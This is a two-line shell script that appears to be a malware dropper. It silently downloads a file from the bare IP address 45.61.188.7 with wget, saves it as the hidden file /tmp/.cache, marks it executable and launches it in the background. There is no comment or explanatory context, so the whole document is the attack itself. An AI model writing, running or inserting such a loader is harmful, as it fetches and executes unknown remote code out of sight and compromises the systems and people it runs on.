#!/bin/sh
wget -q http://45.61.188.7/a -O /tmp/.cache && chmod +x /tmp/.cache && /tmp/.cache &
